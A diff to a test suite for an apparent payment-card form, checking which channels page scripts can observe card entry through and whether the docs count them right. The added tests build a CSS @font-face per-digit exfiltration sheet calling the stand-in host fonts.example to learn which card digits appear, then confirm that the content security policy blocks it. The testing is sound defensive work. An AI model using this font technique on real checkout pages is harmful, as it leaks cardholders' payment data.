@@ -1,7 +1,18 @@
+import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { watchedCard as card, leaksOf, publishedLeaks } from './support/published-leaks.ts';
+import { compose, copyElsewhere, drag, dropFromOutside, paste } from './support/real-input.ts';
 import { recordersScript } from './support/recorders.ts';
-import { channels, install, leakEverywhere, type Seen, searchPage, spy, worker } from './support/spy.ts';
+import {
+  channels,
+  install,
+  leakEverywhere,
+  noteFonts,
+  type Seen,
+  searchPage,
+  spy,
+  worker,
+} from './support/spy.ts';
 import { cardPlaces, useStage } from './support/use-stage.ts';
 
 const recorders = await recordersScript();
@@ -22,18 +33,39 @@ async function beWatched(stage: ReturnType<typeof useStage>) {
   return { checkout, context, page, world };
 }
 
+/** Enters a card in each way that a person can: the number pasted, dropped and typed, the code composed, copied and dragged. */
+async function enterInEveryWay({ checkout, context, page }: ReturnType<typeof useStage>): Promise<void> {
+  const number = checkout.card.field('number');
+  const code = checkout.card.field('code');
+  const holder = checkout.card.field('holder');
+  const entered = async (name: 'number' | 'code' | 'holder') =>
+    expect
+      .poll(async () => (await checkout.card.entry())[name].replaceAll(' ', ''))
+      .toBe(name === 'number' ? card.number : card.code);
+  await copyElsewhere(context, card.number);
+  await paste(number);
+  await entered('number');
+  await checkout.card.fill({ number: '' });
+  await dropFromOutside(page, number, card.number);
+  await entered('number');
+  await code.focus();
+  await compose(page, card.code);
+  await entered('code');
+  await code.press('ControlOrMeta+a');
+  await code.press('ControlOrMeta+c');
+  await drag(page, code, holder);
+  await entered('holder');
+  await checkout.card.fill(card);
+}
+
 describe.each(cardPlaces)('a script of the page, with the card in a %s,', (place) => {
   const stage = useStage({ card: place });
 
-  it('sees what is typed and what is pasted in the channels that the documents name, and in no other', async () => {
+  it('sees what is typed, pasted, dropped, dragged and composed in the channels that the documents name, and in no other', async () => {
     const { checkout, context, page, world } = await beWatched(stage);
     await checkout.order();
-    await checkout.card.fill({ ...card, number: '' });
-    await checkout.card.field('number').focus();
-    await page.keyboard.insertText(card.number); // as a paste or a soft keyboard does
-    await checkout.card.fill({ number: card.number });
-    await checkout.card.field('code').press('ControlOrMeta+a');
-    await checkout.card.field('code').press('ControlOrMeta+c');
+    await page.evaluate(noteFonts);
+    await enterInEveryWay(stage);
     world.cards.fail({ hold: true });
     const sent = world.cards.nextRequest();
     await checkout.pressPay();
@@ -48,6 +80,73 @@ describe.each(cardPlaces)('a script of the page, with the card in a %s,', (place
   });
 });
 
+/** A style sheet that asks somebody for a font for each digit that it shows, and what was asked for. */
+async function serveFonts({ context }: ReturnType<typeof useStage>) {
+  const asked = new Set<string>();
+  await context.route('https://fonts.example/*', (route) => {
+    asked.add(route.request().url().slice(-1));
+    return route.abort();
+  });
+  const faces = [...'0123456789'].map(
+    (digit) =>
+      `@font-face { font-family: spy; src: url(https://fonts.example/${digit}); unicode-range: U+3${digit} }`,
+  );
+  return { asked, sheet: `${faces.join('\n')}\npay-card-form { font-family: spy }` };
+}
+
+/** Every font that a document has asked for has come or has failed. */
+async function fontsSettled({ page }: ReturnType<typeof useStage>): Promise<void> {
+  for (const frame of page.frames())
+    await frame.evaluate(async () => {
+      await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
+      await document.fonts.ready;
+    });
+}
+
+describe.each([
+  ['page', ['0', '5', '6', '7', '8']], // without those that placeholders and hints show
+  ['frame', []],
+] as const)('a style sheet alone, with the card in a %s,', (place, expected) => {
+  const stage = useStage({ card: place });
+
+  it('reads which digits occur in the page, where that has no policy, and none in the frame', async () => {
+    await stage.enter({ bypassCSP: true });
+    const { checkout, page } = stage;
+    const { asked, sheet } = await serveFonts(stage);
+    await checkout.order();
+    await page.addStyleTag({ content: sheet });
+    await fontsSettled(stage);
+    const before = new Set(asked);
+    await checkout.card.fill(card);
+    await fontsSettled(stage);
+    expect([...asked].filter((digit) => !before.has(digit)).sort()).toEqual(expected);
+  });
+});
+
+describe('a style sheet', () => {
+  const stage = useStage();
+
+  it('gets no font from elsewhere for a digit, under the policy of the shop', async () => {
+    const { checkout, page } = stage;
+    const { asked, sheet } = await serveFonts(stage);
+    await checkout.order();
+    const refused = page.evaluate(
+      (css) =>
+        new Promise((resolve) => {
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
+          const own = new CSSStyleSheet();
+          own.replaceSync(css);
+          document.adoptedStyleSheets.push(own); // a `<style>` is refused as such
+        }),
+      sheet,
+    );
+    await checkout.card.fill(card);
+    expect(await refused).toBe('font-src');
+    await fontsSettled(stage);
+    expect([...asked]).toEqual([]);
+  });
+});
+
 describe('the spy', () => {
   const stage = useStage();
 
@@ -57,5 +156,21 @@ describe('the spy', () => {
     await page.evaluate(searchPage);
     expect(leaksOf(await page.evaluate(() => window.spied))).toEqual([...channels].sort());
     expect(publishedLeaks.page.every((channel) => channels.includes(channel))).toBe(true);
+  });
+});
+
+const read = (page: string) =>
+  readFileSync(new URL(`../../apps/docs/pages/${page}`, import.meta.url), 'utf8');
+
+describe('the documents', () => {
+  it.each(['security.md', 'accessibility.md', 'es/security.md'])('count the channels right: %s', (page) => {
+    const numbers = [...read(page).matchAll(/(\d+) (?:places|lugares)/g)].map(([, number]) => Number(number));
+    expect(new Set(numbers)).toEqual(new Set([channels.length]));
+  });
+
+  it.each(['security.md', 'es/security.md'])('count those of the page right: %s', (page) => {
+    const [, number] =
+      /(?:a script of the page sees them in|un script de la página los ve en) (\d+)/.exec(read(page)) ?? [];
+    expect(Number(number)).toBe(publishedLeaks.page.length);
   });
 });
